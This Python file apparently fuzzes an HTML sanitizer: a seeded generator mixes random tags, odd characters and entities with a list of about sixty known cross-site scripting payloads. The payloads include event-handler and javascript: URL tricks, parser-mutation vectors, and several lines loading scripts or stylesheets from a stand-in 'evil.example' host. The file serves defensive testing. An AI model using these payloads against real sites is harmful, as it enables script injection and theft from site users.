"""Makes hostile and odd HTML by the thousand, the same for the same seed."""

import random

KEPT = [
    "p", "h2", "h3", "h4", "blockquote", "ul", "ol", "li", "strong", "em", "s", "a", "br", "hr",
    "sup", "sub", "code", "pre", "cite", "q", "abbr", "table", "thead", "tbody", "tfoot", "tr",
    "th", "td", "caption", "figure", "figcaption", "div", "aside", "span",
]  # fmt: skip
OTHERS = [
    "b", "i", "u", "h1", "h5", "font", "section", "article", "dl", "dt", "dd", "nobr", "center",
    "svg", "math", "mtext", "mglyph", "style", "script", "noscript", "template", "textarea",
    "title", "select", "option", "button", "img", "input", "form", "iframe", "object", "embed",
    "video", "audio", "plaintext", "xmp", "noembed", "noframes", "frameset", "annotation-xml",
    "foreignObject", "desc", "image", "body", "html", "head", "base", "meta", "link", "col",
    "colgroup", "ruby", "rt", "rp", "applet", "marquee", "details",
]  # fmt: skip
ATTRIBUTES = [
    "href", "title", "lang", "dir", "class", "data-role", "data-speaker", "data-image",
    "data-embed", "data-embed-id", "scope", "colspan", "rowspan", "hreflang", "onclick",
    "onerror", "onmouseover", "style", "src", "id", "name", "xlink:href", "srcdoc", "action",
    "formaction", "is", "xmlns", "HREF", "rel", "target", "background",
]  # fmt: skip
ADDRESSES = [
    "https://example.org/a?b=1&c=2",
    "http://example.org:80/#f",
    "mailto:desk@example.org",
    "/path",
    "#note",
    "?q=:",
    "javascript:7",
    "javascript`ы:7",
    "JaVa\tScript:alert(1)",
    "&#106;avascript:alert(1)",
    "&amp;#106;avascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "feed:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "blob:https://example.org/1",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "https://user@evil.example/",
    "https://good.example\\@evil.example/",
    "localhost:7",
    "https://example.org/?a=1&copy=2",
    "https://example.org/&lt;",
    "https://example.org/`",
    "https://[::1]/",
]
VALUES = [
    "turn", "question", "answer", "pull-quote", "link-card", "x", "7", "0", "youtube", "abc", "ltr",
    "rtl", "auto", "uk-UA", "en", "row", "99", "`", "é", "&copy", "&copy;", "&amp;lt;", "A&nbsp;B",
    "&#0;", "&#x80;", "<b>", 'a"b', "a'b", "\u202e", "a\nb", "\xa0", "", "A & B",
]  # fmt: skip
TEXTS = [
    "x", "word word", "&", "&amp;", "&amp;lt;", "&lt;", "<", ">", "\n", "\n\n", " ", "\t", "é", "ы",
    "&nbsp;", "\xa0", "&copy", "&copy;", "&#x3c;", "&#60", "&#0;", "&#128;", "&#xD800;", "\x00",
    "\x0c", "\x0b", "\u200b", "\u200d", "\u202e", "\ufeff", "\ue000", "\ufffe", "\ud800", "𝒳", "\r\n",
    "\r", "\x85", "\x92", "]]>", "<![CDATA[", "<!--", "-->", "--!>", "<!-->", "<!", "<?", "</", "</ ",
    "<a", "<b ", "/>", "'", '"', "`", "=", "&notit;", "&quot;", "&apos;", "&AMP", "alert(1)",
]  # fmt: skip

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script/src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`//",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p/><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='javascript:7'>x</a>",
    "<a href='javascript`ы:7'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "<a href='https://ok.example' style='x:expression(alert(1))'>x</a>",
    "<a\x0chref='javascript:alert(1)'>x</a>",
    "<a/href='javascript:alert(1)'/onclick='alert(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div data-speaker='\"><script>alert(1)</script>'>x</div>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<abbr title=`><img src=x onerror=alert(1)>`>x</abbr>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<table background=javascript:alert(1)><tr><td>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>x</object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<plaintext><script>alert(1)</script>",
    "<body onload=alert(1)><p>x</p></body>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
]


class Soup:
    """A source of markup; each call gives another piece."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def piece(self) -> str:
        kinds = [self.loose_tags, self.listed_tags, self.nested, self.vector, self.mutated]
        return self.random.choice(kinds)()

    def loose_tags(self) -> str:
        """Tags of any element, opened and closed in no order."""
        return self._tags(KEPT + OTHERS)

    def listed_tags(self) -> str:
        """The same with listed elements alone: what the libraries disagree on most."""
        return self._tags(KEPT)

    def nested(self, depth: int = 0) -> str:
        """Listed elements closed in order, but one in the other as it comes."""
        pieces = []
        for _ in range(self.random.randrange(1, 4)):
            if depth > 5 or self.random.random() < 0.35:
                pieces.append(self.random.choice(TEXTS))
                continue
            name = self.random.choice(KEPT)
            inside = "" if name in ("br", "hr") else f"{self.nested(depth + 1)}</{name}>"
            pieces.append(f"<{name}{self._attributes()}>{inside}")
        return "".join(pieces)

    def vector(self) -> str:
        """A known attack in the middle of something else."""
        return self._tags(KEPT) + self.random.choice(VECTORS) + self._tags(KEPT + OTHERS)

    def mutated(self) -> str:
        """A piece with some characters lost, repeated or put in."""
        text = self.vector() if self.random.random() < 0.5 else self.nested()
        for _ in range(self.random.randrange(1, 6)):
            place = self.random.randrange(len(text) + 1)
            other = self.random.randrange(len(text) + 1)
            middle = self.random.choice(
                ["", self.random.choice(TEXTS), f"</{self.random.choice(KEPT)}>",
                 f"<{self.random.choice(OTHERS)}>", text[other : other + 20]]
            )  # fmt: skip
            text = text[:place] + middle + text[place + self.random.randrange(4) :]
        return text

    def _tags(self, names: list[str]) -> str:
        pieces = []
        for _ in range(self.random.randrange(1, 20)):
            chance = self.random.random()
            if chance < 0.4:
                end = self.random.choice([">", ">", ">", "/>", " >", ""])
                pieces.append(f"<{self.random.choice(names)}{self._attributes()}{end}")
            elif chance < 0.6:
                end = self.random.choice([">", ">", " x>", ""])
                pieces.append(f"</{self.random.choice(names)}{end}")
            else:
                pieces.append(self.random.choice(TEXTS))
        return "".join(pieces)

    def _attributes(self) -> str:
        return "".join(
            self.random.choice([" ", " ", "/", "\n"]) + self._attribute()
            for _ in range(self.random.choice([0, 0, 0, 1, 1, 2, 3]))
        )

    def _attribute(self) -> str:
        name = self.random.choice(ATTRIBUTES)
        values = ADDRESSES if name.lower() in ("href", "src", "action") else VALUES
        quote = self.random.choice(['"', '"', "'", ""])
        equals = self.random.choice(["=", "=", " = ", ""])
        return f"{name}{equals}{quote}{self.random.choice(values)}{quote}" if equals else name
